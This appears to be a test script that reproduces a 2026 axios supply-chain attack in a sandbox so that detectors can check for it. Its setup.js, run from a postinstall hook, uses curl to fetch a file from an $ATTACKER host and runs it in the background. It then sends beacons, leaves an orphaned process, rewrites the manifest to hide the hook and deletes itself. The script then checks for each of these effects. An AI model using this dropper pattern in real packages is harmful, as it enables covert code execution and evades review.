# axios (2026): a dependency's install script fetches a program for the system that it finds, runs it behind the job's back, and tidies up.
mkdir -p "$WORK/i15" && cd "$WORK/i15"
echo '{ "version": "4.2.1", "scripts": { "postinstall": "node setup.js" } }' > package.json
cat > setup.js <<'SCRIPT'
const { execFileSync } = require("child_process");
const { readFileSync, unlinkSync, writeFileSync } = require("fs");
const host = process.argv[2];
execFileSync("sh", ["-c", `curl -m 30 -o /tmp/ld-canary.py -d packages.npm.org/product2 -s http://${host}:8080/6202033 && nohup python3 /tmp/ld-canary.py > ran 2>&1 & wait`]);
execFileSync("sh", ["-c", `curl -sm 30 http://${host}:8080/beacon-1; sleep 0.2; curl -sm 30 http://${host}:8080/beacon-2; true`]);
execFileSync("sh", ["-c", "setsid sleep 30.5 > /dev/null 2>&1 & echo $! > orphan"]);
writeFileSync("package.json", JSON.stringify({ version: "4.2.0" }));
if (!readFileSync("package.json", "utf8").includes("postinstall")) console.log("did: manifest");
unlinkSync(__filename);
console.log("did: gone");
SCRIPT
node setup.js "$ATTACKER"
grep -qs 'File "/tmp/ld-canary.py", line 1' ran && did run # the canary is no Python: whoever runs it says so
for i in $(seq 100); do [ "$(cat "/proc/$(cat orphan)/comm")" = sleep ] && did orphan && break; sleep 0.1; done
kill "$(cat orphan)"
rm -f /tmp/ld-canary.py
